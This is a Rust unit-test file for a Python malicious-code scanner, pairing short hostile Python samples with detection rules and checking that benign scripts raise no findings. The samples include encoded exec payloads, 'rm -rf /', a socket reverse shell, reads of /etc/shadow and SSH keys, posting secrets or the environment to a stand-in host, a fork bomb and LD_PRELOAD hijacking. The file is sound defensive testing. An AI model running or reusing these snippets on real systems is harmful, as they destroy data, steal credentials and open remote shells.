use crate::{Language, Scan, ScanOptions, scan};

fn scan_text(code: &str) -> Scan {
    let options = ScanOptions {
        language: Some(Language::Python),
        allowed_imports: None,
    };
    scan("x.py", code.as_bytes(), &options)
}

fn rules(code: &str) -> Vec<&'static str> {
    scan_text(code)
        .findings
        .iter()
        .map(|finding| finding.rule)
        .collect()
}

/// Each script with one of the rules that it meets.
const RISKY: &[(&str, &str)] = &[
    (
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "executes-decoded",
    ),
    (
        "from base64 import b64decode as d\nx = d('cHJpbnQoMSk=').decode()\neval(x)",
        "executes-decoded",
    ),
    ("exec(bytes.fromhex('7072696e74'))", "executes-decoded"),
    (
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
        "executes-decoded",
    ),
    (
        "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode('eJw=')))",
        "executes-decoded",
    ),
    // What is found in it is found in what it comes to.
    (
        "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode('eJzLzC3ILypRyC/myi/WK0rNzS9L1VDXTy1J1i9ILC4uT1HX5AIA5rUMGw==')))",
        "writes-system",
    ),
    (
        "import gzip, base64 as b\nexec(gzip.decompress(b.b64decode('H4sIAAAAAAACA8vMLcgvKlHIL+bKL9YrSs3NL0vVUNdPLUnWL0gsLi5PUdfkAgDCZnR1IwAAAA==')))",
        "writes-system",
    ),
    (
        "import bz2, base64 as b\nexec(bz2.decompress(b.b64decode('QlpoOTFBWSZTWVqRe9EAAAhRgAAQQOGuIt2AIAAimjQ0aGJ6hTCaaA0xDeFxtLFt8ABuahGP1ygTDqp1+LuSKcKEgtSL3og=')))",
        "writes-system",
    ),
    (
        "import lzma, base64 as b\nexec(lzma.decompress(b.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAiaW1wb3J0IG9zCm9zLnJlbW92ZSgnL2V0Yy9wYXNzd2QnKQoAAAJ/ZKjAU4dYAAE7I2ErU74ftvN9AQAAAAAEWVo=')))",
        "writes-system",
    ),
    (
        "import bz2, base64 as b\nx = bz2.decompress(b.b64decode('QlpoOTFBWSZTWVYC4ogAICBIAMAAAAQACCAAMMwFKaYCAbECAeLuSKcKEgrAXFEA'))",
        "expands",
    ),
    (
        "import zlib\nexec(zlib.decompress(b'x\\x9c\\xcb\\xcc-\\xc8/*Q\\xc8/\\xe6\\xca/\\xd6+J\\xcd\\xcd/K\\xd5P\\xd7O-I\\xd6/H,..OQ\\xd7\\xe4\\x02\\x00\\xe6\\xb5\\x0c\\x1b'))",
        "writes-system",
    ),
    (
        "import marshal\nexec(marshal.loads(b'x'))",
        "executes-opaque",
    ),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')", "hides-name"),
    ("__import__('o' + 's').system('id')", "hides-name"),
    (
        "exec(''.join([chr(105), chr(109), chr(112), chr(111)]))",
        "hides-name",
    ),
    (
        "exec(''.join(chr(c) for c in [112, 97, 115, 115]))",
        "hides-name",
    ),
    (
        "import os\nos.system('di'[::-1] + ' fr- mr'[::-1])",
        "hides-name",
    ),
    ("import os as o\no.system('rm -rf /')", "destroys"),
    (
        "import subprocess as s\ns.run(['rm', '-rf', '/home'])",
        "destroys",
    ),
    ("import shutil\nshutil.rmtree('/etc')", "destroys"),
    ("exec(\"import os\\nos.system('rm -rf /')\")", "destroys"),
    (
        "import requests\nexec(requests.get('http://a.b/c').text)",
        "executes-downloaded",
    ),
    (
        "import urllib.request as u, os\nu.urlretrieve('http://a.b/c', '/tmp/c')\nos.system('sh /tmp/c')",
        "executes-downloaded",
    ),
    (
        "import socket, subprocess\ns = socket.socket()\ns.connect(('a', 1))\nwhile True:\n    subprocess.run(s.recv(99), shell=True)",
        "runs-remote-commands",
    ),
    (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('a', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
        "reverse-shell",
    ),
    ("open('/etc/' + 'shadow').read()", "reads-secret"),
    (
        "import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))",
        "reads-secret",
    ),
    (
        "from pathlib import Path\n(Path('/etc') / 'shadow').read_text()",
        "reads-secret",
    ),
    (
        "for p in ['/tmp/x', '/etc/shadow']:\n    open(p)",
        "reads-secret",
    ),
    (
        "import requests\nd = open('/etc/shadow').read()\ndef f(u, b):\n    requests.post(u, data=b)\nf('http://a.b', d)",
        "sends-secret",
    ),
    (
        "import requests, os\nrequests.post('http://a.b', json=dict(os.environ))",
        "sends-environment",
    ),
    ("open('../../../etc/group')", "traverses-path"),
    (
        "with open('/root/.bashrc', 'a') as f:\n    f.write('x')",
        "persists",
    ),
    (
        "import os, datetime\nif datetime.date.today() > datetime.date(2030, 1, 1):\n    os.system('rm -rf /')",
        "acts-by-date",
    ),
    ("import os\nwhile True:\n    os.fork()", "forks-without-end"),
    (
        "x = []\nwhile True:\n    x.append('a' * 10**6)",
        "fills-memory",
    ),
    (
        "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
        "hijacks-libraries",
    ),
    ("import ctypes\nctypes.CDLL(None).ptrace(1, 2)", "injects"),
    ("import os\nos.chmod('/tmp/x', 0o4755)", "grants-root"),
    ("def f(:\n", "not-parsed"),
];

#[test]
fn each_risky_script_meets_its_rule() {
    for (code, rule) in RISKY {
        let rules = rules(code);
        assert!(rules.contains(rule), "{code}\nhas {rules:?}, not {rule}");
    }
}

/// Honest scripts that use the same modules.
const HONEST: &[&str] = &[
    "import os, socket, subprocess, base64, ctypes",
    "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
    "import os\nprint(os.getcwd(), os.environ.get('HOME'))\nos.remove('build.log')",
    "import base64\nprint(base64.b64decode('aGk='))",
    "import time\nt = time.time()\nwhile time.time() - t < 1:\n    print('x')",
    "getattr(object(), 'name', None)",
    "import re\nre.compile('a+')",
    "import datetime\nif datetime.date.today() > datetime.date(2030, 1, 1):\n    print('old')",
    "open('/dev/null', 'w').write('x')\nopen('data.csv').read()",
    "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
    "x = [1, 2, 3][::-1]\nprint('-'.join(str(i) for i in x))",
    "x = {}\nfor i in range(10):\n    x[i] = 'a' * 10",
];

/// The same code in each codec, as CPython has encoded it.
const CODED: &str = include_str!("coded.txt");

#[test]
fn what_is_executed_is_looked_at_in_whatever_codec_it_is() {
    for coded in CODED.lines() {
        let code =
            format!("import base64, binascii, codecs, html, quopri, urllib.parse\nexec({coded})\n");
        let rules = rules(&code);
        for rule in ["executes-decoded", "writes-system"] {
            assert!(rules.contains(&rule), "{rule}: {code}\n{rules:?}");
        }
    }
}

#[test]
fn honest_scripts_have_no_findings() {
    for code in HONEST {
        assert_eq!(scan_text(code).findings, [], "{code}");
        assert_eq!(scan_text(code).score, 0, "{code}");
    }
}

#[test]
fn an_import_is_listed_and_no_finding_unless_a_list_leaves_it_out() {
    let code = "import os.path\nfrom socket import socket\n__import__('json')\n";
    let free = scan_text(code);
    let modules: Vec<(&str, usize)> = free
        .imports
        .iter()
        .map(|import| (import.module.as_str(), import.line))
        .collect();
    assert_eq!(modules, [("os.path", 1), ("socket", 2), ("json", 3)]);
    assert_eq!(free.findings, []);
    let options = ScanOptions {
        language: Some(Language::Python),
        allowed_imports: Some(vec!["os".to_owned(), "json".to_owned()]),
    };
    let bound = scan("x", code.as_bytes(), &options);
    let found: Vec<(&str, usize)> = bound
        .findings
        .iter()
        .map(|finding| (finding.rule, finding.line))
        .collect();
    assert_eq!(found, [("import-not-allowed", 2)]);
}

#[test]
fn a_finding_says_where_it_is_and_what_the_code_would_do() {
    let scan = scan_text("import base64\nif x:\n    exec(base64.b64decode('cHJpbnQoMSk='))\n");
    let finding = &scan.findings[0];
    assert_eq!((finding.line, finding.column), (3, 5));
    assert_eq!(
        finding.says,
        "decodes 12 bytes of base64 and executes the result"
    );
    assert_eq!(finding.technique, Some("T1140"));
}

#[test]
fn what_a_profile_has_to_allow_is_told() {
    let scan = scan_text(
        "import requests\nrequests.get('https://a.b/c')\nopen('/srv/data')\nopen('/etc/shadow')\n",
    );
    let texts = |set: &std::collections::BTreeSet<String>| set.iter().cloned().collect::<Vec<_>>();
    assert_eq!(texts(&scan.needs.connect), ["a.b:443"]);
    assert_eq!(texts(&scan.needs.read), ["/srv/data"]);
    assert_eq!(texts(&scan.needs.refused), ["/etc/shadow"]);
}

#[test]
fn deeply_nested_huge_and_odd_input_is_a_finding_and_never_the_end() {
    for deep in [
        "(",
        "[",
        "{",
        "-",
        "f(",
        "x.a",
        "lambda:",
        "f'{",
        "1if 1else ",
        "not ",
    ] {
        let scan = scan_text(&deep.repeat(100_000));
        assert!(
            scan.findings
                .iter()
                .any(|finding| finding.rule == "too-nested"),
            "{deep}"
        );
    }
}

#[test]
fn what_is_too_large_or_no_text_is_a_finding() {
    assert!(rules(&"x".repeat(crate::LARGEST + 1)).contains(&"too-large"));
    assert!(rules("a\0b").contains(&"not-text"));
}

#[test]
fn what_takes_too_much_work_is_a_finding() {
    let work = format!(
        "a = [{}]\n{}",
        "1, ".repeat(1000),
        "[[y for y in a] for x in a]\n".repeat(200)
    );
    assert!(rules(&work).contains(&"too-much-work"));
    let lookups = format!(
        "a = [{}]\n{}",
        "'/etc/x', ".repeat(1000),
        "for x in a: open(x)\n".repeat(1_000)
    );
    assert!(rules(&lookups).contains(&"too-much-work"));
}

/// Whoever writes much takes the work of those walks that only learn, and hides nothing that stands before.
#[test]
fn what_stands_before_too_much_work_is_told() {
    let padded = |padding: &str, times: usize| {
        let code = format!(
            "import os\nos.system('rm -rf /')\n{}",
            padding.repeat(times)
        );
        scan_text(&code)
    };
    for (padding, times) in [
        ("os.system('echo')\n", 10_000),
        ("[[y for y in a] for x in a]\n", 30_000),
    ] {
        let scan = padded(padding, times);
        let rules: Vec<&str> = scan.findings.iter().map(|finding| finding.rule).collect();
        assert!(rules.contains(&"destroys"), "{rules:?}");
    }
    assert!(!padded("os.system('echo')\n", 10_000).whole);
    assert!(padded("x = 1\n", 10).whole);
}

#[test]
fn chains_and_growing_texts_take_little_work() {
    // What stands before a point is looked at once.
    let chain = format!("x{}", ".replace('a', 'b')".repeat(200));
    assert_eq!(scan_text(&chain).findings, []);
    // Texts that double with each line are known up to a length.
    let double = format!("x = 'ab'\n{}open(x)\n", "x = x + x\n".repeat(1000));
    assert!(scan_text(&double).score < 50);
}
